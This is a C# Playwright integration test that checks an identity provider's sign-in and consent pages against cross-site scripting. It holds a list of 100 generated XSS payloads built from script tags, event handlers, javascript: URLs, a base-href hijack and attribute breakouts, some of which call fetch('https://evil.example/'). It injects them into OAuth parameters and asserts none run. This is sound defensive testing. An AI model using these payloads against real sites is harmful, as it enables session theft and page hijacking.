using System.Collections.Concurrent;
using Microsoft.Playwright;
using Satcom.Domain.Identity.Provider;
using Satcom.IntegrationTests.Common;

namespace Satcom.IntegrationTests.Identity.Pages;

/// <summary>What a stranger can put into a page stays text.</summary>
[Collection(PagesTogether.Name)]
public sealed class ScriptTests(PagesHost pages, Chromium chromium)
{
    private static readonly string[] Deeds = ["alert(1)", "console.log('hit')", "document.title='hit'", "fetch('https://evil.example/')"];

    /// <summary>Ways out of text, of attributes, of addresses, of styles and of comments, with {0} for what is then done.</summary>
    private static readonly string[] Ways =
    [
        "<script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>", "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>",
        "<img src=x onerror={0}>", "\"><img src=x onerror=\"{0}\">", "<svg onload={0}>", "<svg><animate onbegin={0} attributeName=x dur=1s>", "<body onload={0}>", "<iframe srcdoc=\"<script>{0}</script>\">",
        "\" onfocus=\"{0}\" autofocus x=\"", "' onfocus='{0}' autofocus x='", "\" onmouseover={0} style=position:fixed;inset:0 x=\"", "<a href=javascript:{0}>x</a>", "javascript:{0}",
        "<form action=javascript:{0}><button autofocus>x</button></form>", "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<math><mi xlink:href=javascript:{0}>x</mi></math>",
        "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<base href=https://evil.example/><script src=x></script>{0}", "--><script>{0}</script><!--", "&lt;script&gt;{0}&lt;/script&gt;<object data=javascript:{0}>",
    ];

    [Fact]
    public async Task O51_Pages_WithAHundredPayloads_RunNoneOfThem()
    {
        var payloads = Ways.SelectMany(way => Deeds.Select(deed => way.Replace("{0}", deed, StringComparison.Ordinal))).ToList();
        payloads.Count.ShouldBe(100);
        var roster = await PagesHost.RosterAsync(pages.Host);
        await using var stranger = await BrowserTests.OpenAsync(chromium, "en", script: true);
        await using var person = await BrowserTests.OpenAsync(chromium, "en", script: true);
        await PagesHost.PlayClientAsync(stranger);
        var asked = new ConcurrentQueue<string>();
        foreach (var context in (IBrowserContext[])[stranger, person])
        {
            context.Request += (_, request) => asked.Enqueue(new Uri(request.Url).Host);
        }

        var (signIn, consent) = (await stranger.NewPageAsync(), await person.NewPageAsync());
        await consent.GotoAsync($"{pages.Origin}/t/acme/account/sign-in");
        await consent.FillAsync("#email", "nadia@acme.test");
        await consent.FillAsync("#password", SatcomHost.DemoPassword);
        await consent.GoOnAsync(() => consent.ClickAsync("button"));
        var (first, second) = (new PageWatch(signIn), new PageWatch(consent));

        for (var i = 0; i < payloads.Count; i++)
        {
            var payload = payloads[i];
            var name = payload[..Math.Min(payload.Length, OAuthClient.NameMaxLength)];
            await pages.Host.SqlAsync("UPDATE oauth_clients SET name = $1 WHERE id = $2", name, roster.Id);
            var address = pages.Authorize(roster, "openid email", r =>
            {
                r["state"] = payload;
                r["login_hint"] = payload;
                r["ui_locales"] = payload;
                r["logo_uri"] = payload;
            });
            await signIn.GotoAsync(address);

            // The text is there, so it was this page that could have run it.
            (await signIn.InnerTextAsync("main p.muted")).ShouldContain(name[..4]);
            (await signIn.InputValueAsync("#email")).ShouldBe(payload);
            (await signIn.TitleAsync()).ShouldBe("Sign in · Satcom", payload);
            BrowserTests.Refusals(first).ShouldBeEmpty(payload);

            // Of what a client can put there the page of consent shows its name alone: each way once, with another deed.
            if (i % Deeds.Length == i / Deeds.Length % Deeds.Length)
            {
                await consent.GotoAsync(address);
                (await consent.Locator("button[value=allow]").CountAsync()).ShouldBe(1, payload);
                (await consent.InnerTextAsync("main")).ShouldContain(name[..4]);
                (await consent.TitleAsync()).ShouldBe("Allow access? · Satcom", payload);
                BrowserTests.Refusals(second).ShouldBeEmpty(payload);
            }
        }

        // What is sent back by form carries the state, and its page has the one script that there is.
        foreach (var payload in payloads.Where((_, i) => i % Deeds.Length == 0))
        {
            await signIn.GotoAsync(pages.Authorize(roster, payload, r => (r["state"], r["response_mode"], r["prompt"]) = (payload, "form_post", "none")), new() { WaitUntil = WaitUntilState.Commit });
            await signIn.ReachAsync("https://payroll.example/cb");
            BrowserTests.Refusals(first).ShouldBeEmpty(payload);
        }

        asked.ShouldNotContain("evil.example", StringComparer.Ordinal);
        asked.Count.ShouldBeGreaterThan(250);
    }
}
